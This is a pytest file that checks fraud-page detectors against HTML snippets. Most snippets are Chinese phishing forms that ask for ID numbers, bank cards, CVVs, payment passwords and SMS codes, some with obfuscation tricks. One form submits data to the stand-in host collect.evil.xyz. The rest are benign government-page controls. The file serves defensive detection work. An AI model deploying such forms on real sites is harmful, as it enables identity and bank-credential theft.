"""What forms ask for, from their markup: forty-three that take, and forty-four that do not."""

from datetime import UTC, datetime

import pytest

from detectors import (
    app_download,
    bait_form,
    certificate_trade,
    injected_content,
    payment,
    personal_channel,
    redirect,
    solicitation,
)
from zhenwang.domain.look import Look
from zhenwang.pages.page import read_page

READERS = (
    app_download,
    bait_form,
    certificate_trade,
    injected_content,
    payment,
    personal_channel,
    redirect,
    solicitation,
)

TAKING = [
    ('<form><input name=a placeholder="身份证号码"></form>', "asks_identity"),
    ("<form><label for=x>身份證號(hào)碼(mǎ)</label><input id=x></form>", "asks_identity"),
    ("<table><tr><td>身 份 证 号：</td><td><input name=u1></td></tr></table>", "asks_identity"),
    ('<form><input name="idCardNo" placeholder="请输入"></form>', "asks_identity"),
    (
        '<form><input name=f1 maxlength=18 pattern="^[1-9]\\d{16}[0-9Xx]$" placeholder="18位号码"></form>',
        "asks_identity",
    ),
    ('<form>请上传手持身份证照片<input type=file name=pic accept="image/*"></form>', "asks_identity"),
    (
        "<form>请输入身份证号" + "<input maxlength=1>" * 18 + "</form>",
        "asks_identity",
    ),
    ('<form><input aria-label="银行卡号"></form>', "asks_bank"),
    ('<form><input autocomplete="cc-number" name=n></form>', "asks_bank"),
    (
        (
            "<form><span>卡号</span><input name=kh><span>有效期</span><input name=yxq>"
            "<span>卡背面后三位</span><input name=hsw></form>"
        ),
        "asks_bank",
    ),
    ('<form><input placeholder="银行预留手机号"></form>', "asks_bank"),
    ('<form><input type=password placeholder="支付密码"></form>', "asks_bank"),
    ('<form><input type=password placeholder="取款密碼"></form>', "asks_bank"),
    (
        "<form>请输入6位密码" + "<input type=password maxlength=1>" * 6 + "</form>",
        "asks_bank",
    ),
    ('<form><input placeholder="手机号"><input placeholder="验证码"><button>获取验证码</button></form>', "asks_code"),
    ('<form><input placeholder="手机号码"><input placeholder="验证码"><a>点击发送验证码</a></form>', "asks_code"),
    ('<form><input autocomplete="one-time-code" inputmode=numeric></form>', "asks_code"),
    (
        "<form>请输入短信中的校验码" + "<input maxlength=1 inputmode=numeric>" * 6 + "</form>",
        "asks_code",
    ),
    ('<form><input placeholder="动态口令"></form>', "asks_code"),
    ('<div contenteditable placeholder="请输入您的银行卡号"></div>', "asks_bank"),
    (
        '<div id=app></div><script>new Vue({fields:[{label:"姓名"},{label:"身份证号"},{label:"银行卡号"}]})</script>',
        "asks_bank",
    ),
    ("<script>document.write('<input placeholder=\"\\u8eab\\u4efd\\u8bc1\\u53f7\\u7801\">')</script>", "asks_identity"),
    ('<script>var k=prompt("请输入您的银行卡号和密码")</script>', "asks_bank"),
    ('<div style="display:none"><form><label>银行卡号<input name=z></label></form></div>', "asks_bank"),
    ('<form action="https://collect.evil.xyz/a.php"><input placeholder="身份证号"></form>', "form_sent_elsewhere"),
    ('<form action="mailto:a@b.c"><input placeholder="银行卡号"></form>', "form_sent_elsewhere"),
    ('<form><input placeholder="缴费金额"><button>立即支付</button></form>', "asks_payment"),
    (
        (
            "<form><input name=q1><label><input type=radio name=pay>支付宝支付</label>"
            "<label><input type=radio name=pay>微信支付</label></form>"
        ),
        "asks_payment",
    ),
    ("<p>请将款项转账至以下账户：户名：张三 账号：6222021234567890128 开户行：工商银行</p>", "asks_payment"),
    ("<p>USDT充值地址：TXYZabcdefghijkmnopqrstuvwxyz12345</p>", "asks_payment"),
    ('<a href="alipays://platformapi/startapp?x=1">立即缴费</a>', "asks_payment"),
    (
        '<form><input placeholder="Card Number"><input placeholder="Expiry date"><input placeholder="CVV"></form>',
        "asks_bank",
    ),
    ('<form><input placeholder="ID card number"></form>', "asks_identity"),
    ('<form><input placeholder="shēn fèn zhèng hào" name=sfzh></form>', "asks_identity"),
    ('<form><input placeholder="身份证"><input placeholder="姓名"><input placeholder="手机"></form>', "asks_identity"),
    ("<form><label>电子邮箱</label><input><label>密码</label><input type=password></form>", "asks_code"),
    ('<form><select><option>身份证<option>护照</select><input placeholder="证件号码"></form>', "asks_identity"),
    ("<form><input type=file capture=user name=face></form>", "asks_identity"),
    ('<form><input placeholder="请输入社会保障卡号"></form>', "asks_identity"),
    ('<form><input placeholder="开户行"><input placeholder="银行账号"></form>', "asks_bank"),
    ('<form><label><img src=a.png></label><input name="bankcardno"></form>', "asks_bank"),
    ('<form><input placeholder="身·份·证·号"></form>', "asks_identity"),
    ('<form><input placeholder="&#36523;&#20221;&#35777;&#21495;"></form>', "asks_identity"),
]
HONEST = [
    '<form><input name=q placeholder="请输入关键字"></form>',
    "<a>身份证办理</a> <a>银行卡挂失</a><form><input name=keyword><button>搜索</button></form>",
    '<form><input type=email placeholder="订阅邮箱"><button>订阅</button></form>',
    (
        '<form><input placeholder="姓名"><input placeholder="联系电话"><textarea '
        'placeholder="留言内容"></textarea><input placeholder="验证码"><img '
        'alt="看不清换一张"></form>'
    ),
    '<form><input placeholder="图形验证码"><button>查询</button></form>',
    '<form><input placeholder="请输入公文文号"></form>',
    "<form><select name=type><option>身份证办理<option>户口迁移</select><button>查询</button></form>",
    '<form><input placeholder="读者卡号"></form>',
    '<form><input placeholder="公交一卡通卡号"></form>',
    '<form><input placeholder="统一社会信用代码" maxlength=18 pattern="^[0-9A-Z]{18}$"></form>',
    '<form><input placeholder="车牌号"><input placeholder="发动机号后六位"></form>',
    '<form><input placeholder="快递单号"></form>',
    '<form><input placeholder="办件编号"><input placeholder="查询码"></form>',
    '<form><input placeholder="邀请码"></form>',
    "<form><input name=identity><label>您的身份：教师/学生</label></form>",
    '<form><label>您的身份<input name="identity"></label></form>',
    "<form><input type=file name=attach>上传附件</form>",
    '<form><input placeholder="请输入您的意见建议"></form>',
    "<p>请勿向他人透露银行卡号和短信验证码</p>",
    "<p>办理身份证需提供户口簿原件</p>",
    "<p>身份证办理指南</p>",
    "<p>缴费标准：每人每年400元</p>",
    "<p>罚款500元以上1000元以下</p>",
    "<p>投标保证金账户 户名：青柳市公共资源交易中心 账号：4200 1234 5678 9000</p>",
    "<p>关注“青柳发布”微信公众号</p>",
    "<p>联系人：王科长 电话 027-87654321</p>",
    "<p>联系人：李主任 13912345678</p>",
    "<p>官方微信：qlfabu</p>",
    '<a href="https://apps.apple.com/cn/app/x">App Store下载</a>',
    "<p>警方提醒：谨防“征信修复”骗局</p>",
    "<p>市场监管局查处无证医疗广告，包治百病系虚假宣传</p>",
    "<p>福利彩票销量 双色球开奖公告 体育彩票大乐透</p>",
    "<p>禁止资质挂靠</p>",
    '<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="/m/index.html"}</script>',
    (
        "<script>var _hmt=_hmt||[];(function(){var "
        'hm=document.createElement("script");'
        'hm.src="https://hm.baidu.com/hm.js?x";var '
        's=document.getElementsByTagName("script")[0];'
        "s.parentNode.insertBefore(hm,s)})();document.referrer</script>"
    ),
    '<script>function go(u){window.location.href="https://bszs.conac.cn/sitename?x=1"}</script>',
    (
        '<script>if(window.location.protocol!="https:")'
        '{window.location.href="https:"+window.location.href.substring(5)'
        "}</script>"
    ),
    "<p>城乡居民医保缴费：请登录国家税务总局电子税务局缴纳，缴费标准400元</p>",
    '<form><input placeholder="日期"><input placeholder="金额范围"><button>检索</button></form>',
    "<p>人脸识别技术应用安全管理办法公布</p>",
    "<p>刑法第三百零三条 以营利为目的，聚众赌博或者以赌博为业的，处三年以下有期徒刑</p>",
    "<p>体育馆官网预约入口</p>",
    "<title>国家体育总局体育彩票管理中心官方网站</title>",
    "<p>公积金贷款政策 创业担保贷款</p>",
]


def harm_on(markup: str, registry) -> set[str]:
    page = read_page(f"<html><body>{markup}</body></html>".encode())[0]
    url = "https://x7.example.top/"
    look = Look("x7.example.top", url, datetime(2026, 11, 22, tzinfo=UTC), final_url=url, status=200, page=page)
    return {signal.name for reader in READERS for signal in reader.detect(look, registry)}


@pytest.mark.parametrize(("markup", "signal"), TAKING)
def test_a_form_that_takes_says_what(registry, markup, signal):
    assert signal in harm_on(markup, registry)


@pytest.mark.parametrize("markup", HONEST)
def test_an_honest_page_takes_nothing(registry, markup):
    assert harm_on(markup, registry) == set()
